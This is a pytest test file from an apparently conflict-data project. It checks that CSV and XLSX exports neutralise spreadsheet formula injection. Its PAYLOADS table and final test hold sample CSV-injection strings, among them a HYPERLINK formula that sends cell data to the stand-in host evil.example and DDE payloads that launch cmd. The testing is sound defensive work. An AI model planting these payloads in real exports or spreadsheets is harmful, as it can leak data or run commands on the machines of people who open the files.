"""Exports never carry spreadsheet formulas (OWASP CSV injection): CSV cells prefixed and quoted, XLSX strings as strings."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

from helpers import event, site, write_dataset
from syriawatch import exports, importers
from syriawatch.loading import load_dataset
from syriawatch.tables import events_csv, sites_csv
from syriawatch.textsafe import FORMULA_START, neutralise_cell

# Every leading character OWASP lists, each with a payload that a spreadsheet would run or follow.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_every_leading_character_is_covered():
    assert set(PAYLOADS) == set(FORMULA_START)


@pytest.mark.parametrize("lead", list(PAYLOADS), ids=[repr(k) for k in PAYLOADS])
def test_cell_neutraliser(lead):
    value = PAYLOADS[lead]
    assert neutralise_cell(value) == "'" + value
    assert neutralise_cell("plain title") == "plain title"
    assert neutralise_cell(-3) == -3 and neutralise_cell(None) is None


@pytest.fixture(scope="module")
def ds(tmp_path_factory):
    # The loader strips surrounding whitespace, so tab/CR payloads are placed after the table is loaded.
    rows = [event(i + 1, title_en=f"x{i}", notes="n", tension="-3") for i in range(len(PAYLOADS))]
    d = load_dataset(write_dataset(tmp_path_factory.mktemp("inj"), rows, [site(1)]))
    ev = d.events.copy()
    ev["title_en"] = list(PAYLOADS.values())
    ev["source"] = list(PAYLOADS.values())
    sites = d.sites.assign(name_en=PAYLOADS["="])
    return ev, sites


def test_csv_cells_are_prefixed_and_quoted_and_numbers_stay_numbers(ds):
    ev, sites = ds
    raw = events_csv(ev).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    header, body = rows[0], rows[1:]
    title, tension = header.index("title_en"), header.index("tension")
    for lead, r in zip(PAYLOADS, body):
        assert r[title] == "'" + PAYLOADS[lead]
        assert not r[title].startswith(tuple(FORMULA_START))
        assert r[tension] == "-3"
    # quoted: every text cell is between double quotes; the number is not
    first_line = raw.splitlines()[1]
    assert first_line.startswith('"T-001"') and ",-3," in first_line
    assert f'"\'{PAYLOADS["="][:10]}' in raw
    assert "'=" in sites_csv(sites).decode("utf-8-sig")


def test_csv_export_reloads_as_the_same_data(ds, tmp_path):
    ev, sites = ds
    keep = ev.iloc[:4].copy()  # payloads a curated file can hold (the loader strips leading tab/CR)
    folder = write_dataset(tmp_path, [event(1)], [site(1)])
    (folder / "events.csv").write_bytes(events_csv(keep))
    again = load_dataset(folder)
    assert not again.problems
    assert again.events["title_en"].tolist() == keep["title_en"].tolist()
    assert again.events["tension"].tolist() == [-3] * 4


def test_xlsx_holds_no_formula_anywhere(ds):
    ev, sites = ds
    wb = openpyxl.load_workbook(io.BytesIO(exports.events_xlsx(ev, sites, PAYLOADS["="], PAYLOADS["@"])))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    stored = {v.replace("\r", "\n") for v in PAYLOADS.values()}  # XML turns a stored CR into LF on reading
    assert stored <= texts                    # the text itself, unchanged, as a string
    trig = [c for c in cells if isinstance(c.value, str) and c.value.startswith(tuple(FORMULA_START))]
    assert trig and all(c.quotePrefix for c in trig)         # and marked as text, like a typed apostrophe
    head = [c.value for c in wb["events"][1]]
    tension = [r[head.index("tension")] for r in wb["events"].iter_rows(min_row=2, values_only=True)]
    assert tension == [-3] * len(PAYLOADS)
    back = pd.read_excel(io.BytesIO(exports.events_xlsx(ev, sites, "d", "a")), sheet_name="events")
    assert back["title_en"].tolist() == [v.replace("\r", "\n") for v in PAYLOADS.values()]


def test_rejected_rows_report_is_neutralised(tmp_path):
    src = tmp_path / "acled.csv"
    src.write_text("event_id_cnty,event_date,latitude,longitude,notes\n"
                   "SYR1,2020-01-01,36.1,40.1,ok\n"
                   'SYR2,"=HYPERLINK(""http://evil.example"")",36.1,40.1,x\n', encoding="utf-8")
    res = importers.import_file(src, "acled", tmp_path / "store")
    text = res.report.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text
